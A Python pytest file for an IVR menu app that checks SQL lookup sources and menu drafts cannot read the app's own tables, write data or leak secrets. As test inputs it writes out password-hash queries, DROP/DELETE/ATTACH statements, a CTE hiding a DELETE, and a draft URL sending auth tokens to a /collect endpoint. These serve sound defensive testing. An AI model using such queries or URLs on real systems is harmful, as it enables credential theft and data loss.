"""SQL sources read only the operator's connections, never the app's tables; drafts too."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import replace
from datetime import date
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa

from ivr.lookup import FAILED, FOUND
from ivr.lookup.demo import seed
from ivr.lookup.live import LiveLookups
from ivr.lookup.policy import Connection, HostRule, SourcePolicy
from ivr.menu.loader import load_text
from ivr.menu.model import Menu
from tests.conftest import ADMIN_PASSWORD, Clock, shutdown
from tests.test_admin_menus import admin_client, line_of, live_text, make_admin_app
from tests.test_lookup_policy import Recorder, recording_server

TODAY = date(2026, 11, 23)
PARAMS = {"id": "root", "caller": "+15551230000"}


def sql_menu(query: str, database: str = "demo") -> Menu:
    """A menu with one sql source named ``q``."""
    return load_text(f"""menu: sql
languages: {{en: {{locale: en-US, voice: Polly.Joanna}}}}
start: bye
sources:
  q: {{type: sql, database: {database}, query: "{query}"}}
nodes:
  bye: {{type: hangup}}
""", "sql.yaml")


@pytest.fixture
def app(db_url: str, tmp_path: Path, clock: Clock, demo_connection: dict[str, str]) -> Iterator[Any]:
    """The app with its demo data and an admin whose password hash sits in ``users``."""
    engine = sa.create_engine(db_url)
    seed(engine, TODAY)
    engine.dispose()
    application = make_admin_app(db_url, tmp_path, clock, **demo_connection)
    yield application
    application.extensions["ivr"].lookups.close()
    shutdown(application)


def orders_count(app: Any) -> int:
    with app.extensions["ivr"].store.engine.connect() as conn:
        return int(conn.execute(sa.text("SELECT COUNT(*) FROM orders")).scalar_one())


def test_the_demo_connection_reads_orders_but_never_users(app: Any) -> None:
    lookups = app.extensions["ivr"].lookups
    order = lookups.find(sql_menu("SELECT status FROM orders WHERE order_id = :id"), "q",
                         {"id": "100001", "caller": ""})
    assert (order.status, order.record) == (FOUND, {"status": "shipped"})
    for query in ("SELECT username, password_hash FROM users WHERE username = :id",
                  "SELECT o.status, (SELECT password_hash FROM users LIMIT 1) AS h "
                  "FROM orders o WHERE :id = :id",
                  "SELECT text AS t FROM menu_versions WHERE :id = :id"):
        result = lookups.find(sql_menu(query), "q", PARAMS)
        assert (result.status, result.reason) == (FAILED, "sql"), query


def test_a_source_without_a_declared_database_reads_nothing(app: Any) -> None:
    lookups = app.extensions["ivr"].lookups
    for database in ("main", "app", "default"):
        result = lookups.find(sql_menu("SELECT password_hash FROM users WHERE username = :id",
                                       database), "q", PARAMS)
        assert (result.status, result.reason) == (FAILED, "not_allowed")


WRITES = {
    "sqlite": ["INSERT INTO orders (order_id, status, placed_on, total, currency) "
               "VALUES ('9', 'x', '2026-11-23', 1, 'EUR')", "UPDATE orders SET status = 'x'",
               "DELETE FROM orders", "ATTACH DATABASE 'attached.sqlite3' AS other",
               "PRAGMA query_only = OFF", "CREATE TEMP TABLE t (x)", "DROP TABLE orders"],
    "postgresql": ["INSERT INTO orders (order_id, status, placed_on, total, currency) "
                   "VALUES ('9', 'x', '2026-11-23', 1, 'EUR')", "UPDATE orders SET status = 'x'",
                   "DELETE FROM orders", "CREATE TEMP TABLE t (x int)", "DROP TABLE orders",
                   "SET ROLE postgres"],
}


def test_a_demo_connection_cannot_write(app: Any, tmp_path: Path,
                                        monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    lookups = app.extensions["ivr"].lookups
    engine = lookups._make(sql_menu("SELECT 1 AS one WHERE :id = :id").sources["q"]).engine
    for statement in WRITES[engine.dialect.name]:
        with pytest.raises(sa.exc.DBAPIError), engine.begin() as conn:
            conn.execute(sa.text(statement))
    assert orders_count(app) == 5
    assert not (tmp_path / "attached.sqlite3").exists()


@pytest.mark.parametrize("db_url", ["postgres"], indirect=True)  # SQLite: the test above
def test_even_a_role_that_may_write_only_reads_through_a_lookup(app: Any, db_url: str,
                                                                tmp_path: Path) -> None:
    # The operator's mistake: a role that may write. Every lookup transaction is read-only.
    writer = db_url.replace("@127.0.0.1", "@localhost")
    policy = SourcePolicy(connections={"shop": Connection("shop", writer)})
    lookups = LiveLookups(menus_dir=tmp_path, policy=policy, secret="s")
    try:
        sneaky = sql_menu("WITH gone AS (DELETE FROM orders RETURNING order_id) "
                          "SELECT COUNT(*) AS n FROM gone WHERE :id = :id", "shop")
        assert lookups.find(sneaky, "q", PARAMS).reason == "sql"
        loosen = sql_menu("SELECT set_config('default_transaction_read_only', 'off', false) AS x "
                          "WHERE :id = :id", "shop")
        assert lookups.find(loosen, "q", PARAMS).status == FOUND
        engine = lookups._engines["shop"]
        with pytest.raises(sa.exc.DBAPIError), engine.begin() as conn:  # the same connection
            conn.execute(sa.text("DELETE FROM orders"))
        untimed = sql_menu("SELECT set_config('statement_timeout', '0', false) AS x "
                           "WHERE :id = :id", "shop")
        assert lookups.find(untimed, "q", PARAMS).status == FOUND
        with engine.connect() as conn:  # back to the budget once the lookup is done
            assert conn.execute(sa.text("SHOW statement_timeout")).scalar_one() == "2500ms"
    finally:
        lookups.close()
    assert orders_count(app) == 5


# ---- the editor and the simulator hold drafts to the same rules -------------------------


LEAKY_DRAFT = """menu: mini
languages: {{en: {{locale: en-US, voice: Polly.Joanna}}}}
start: who
defaults: {{fallback: bye}}
sources:
  api:
    type: http
    url: "http://127.0.0.1:{port}/collect?t=${{TWILIO_AUTH_TOKEN}}&k=${{SECRET_KEY}}"
  hashes:
    type: sql
    database: demo
    query: "SELECT username, password_hash FROM users WHERE :caller = :caller"
nodes:
  who:
    type: lookup
    source: hashes
    identify: caller_id
    answer: "User {{username}} has {{password_hash}}."
    next: send
    fallback: send
  send:
    type: lookup
    source: api
    identify: caller_id
    answer: "Sent."
    next: bye
    fallback: bye
  bye: {{type: hangup}}
"""


def test_the_editor_shows_each_refused_variable_at_its_line(app: Any) -> None:
    client, header = admin_client(app)
    text = LEAKY_DRAFT.format(port=9)
    reply = client.post("/dashboard/admin/menus/mini.yaml/check", json={"text": text},
                        headers=header).get_json()
    url_line = line_of(text, "url:")
    refused = {(p["line"], name) for p in reply["problems"] for name in
               ("TWILIO_AUTH_TOKEN", "SECRET_KEY") if p["severity"] == "error"
               and f"reads ${{{name}}}, which the operator does not allow" in p["message"]}
    assert refused == {(url_line, "TWILIO_AUTH_TOKEN"), (url_line, "SECRET_KEY")}
    assert any(p["line"] == url_line and "127.0.0.1:9, which is not in the operator's "
               "IVR_LOOKUP_HOSTS" in p["message"] for p in reply["problems"])
    published = client.post("/dashboard/admin/menus/mini.yaml/publish",
                            json={"text": text, "note": "leak"}, headers=header)
    assert published.status_code == 422
    assert live_text(app) != text


def test_a_simulated_draft_gets_the_same_refusal(app: Any) -> None:
    lookups = app.extensions["ivr"].lookups
    with recording_server() as port:
        # Even with the draft's host allowed, its secrets and the users table stay out of reach.
        lookups.policy = replace(lookups.policy, hosts=(HostRule.parse(f"127.0.0.1:{port}"),))
        client, header = admin_client(app)
        saved = client.post("/dashboard/admin/menus/mini.yaml/draft",
                            json={"text": LEAKY_DRAFT.format(port=port)}, headers=header)
        # Kept, errors and all, as drafts are: two variables, and the host (not listed in
        # the server's settings, which the editor checks; the lookups allow it here).
        assert saved.get_json()["errors"] == 3
        reply = client.post("/dashboard/admin/simulator/action",
                            json={"action": "call", "target": "draft:mini.yaml"}, headers=header)
        assert reply.status_code == 200, reply.text
        assert Recorder.seen == []  # the secrets never left the server
    heard = " ".join(item.get("say", "") for item in reply.get_json()["heard"])
    sorry = "Sorry, we can't check that right now. Let me find another way to help you. "
    assert heard == sorry * 2 + "Thank you for calling. Goodbye."
    with app.extensions["ivr"].store.engine.connect() as conn:
        hashes = conn.execute(sa.text("SELECT password_hash FROM users")).scalars().all()
    assert len(hashes) == 2 and not any(h in heard for h in hashes)
    assert ADMIN_PASSWORD not in heard


def respelled(db_url: str, tmp_path: Path) -> str:
    """The app's own database under another spelling: a symlinked file, or localhost for 127.0.0.1."""
    url = sa.engine.make_url(db_url)
    if url.get_backend_name() == "sqlite":
        alias = tmp_path / "alias" / "orders.sqlite3"
        alias.parent.mkdir()
        alias.symlink_to(Path(str(url.database)))
        return f"sqlite:///{tmp_path / 'alias' / '..' / 'alias' / 'orders.sqlite3'}"
    host = "localhost" if url.host in ("127.0.0.1", "::1") else "127.0.0.1"
    return url.set(host=host).render_as_string(hide_password=False)


def test_the_apps_own_database_under_another_spelling_is_refused(db_url: str, tmp_path: Path,
                                                                 clock: Clock) -> None:
    from ivr.config import ConfigError
    from tests.conftest import make_app

    other = respelled(db_url, tmp_path)
    assert other != db_url
    with pytest.raises(ConfigError, match="IVR_LOOKUP_DB_ORDERS is the app's own database"):
        shutdown(make_app(db_url, tmp_path, clock, IVR_LOOKUP_DB_ORDERS=other))
    with pytest.raises(ConfigError, match="IVR_ACTION_DB_ORDERS is the app's own database"):
        shutdown(make_app(db_url, tmp_path, clock, IVR_ACTION_DB_ORDERS=other))
    # Another database on the same server, or the same one under another role, is fine.
    if db_url.startswith("postgresql"):
        role = sa.engine.make_url(other).set(username="ivr_lookup_reader", password="x")
        app = make_app(db_url, tmp_path, clock,
                       IVR_LOOKUP_DB_ORDERS=role.render_as_string(hide_password=False))
        assert "orders" in app.extensions["ivr"].lookups.policy.connections
        shutdown(app)
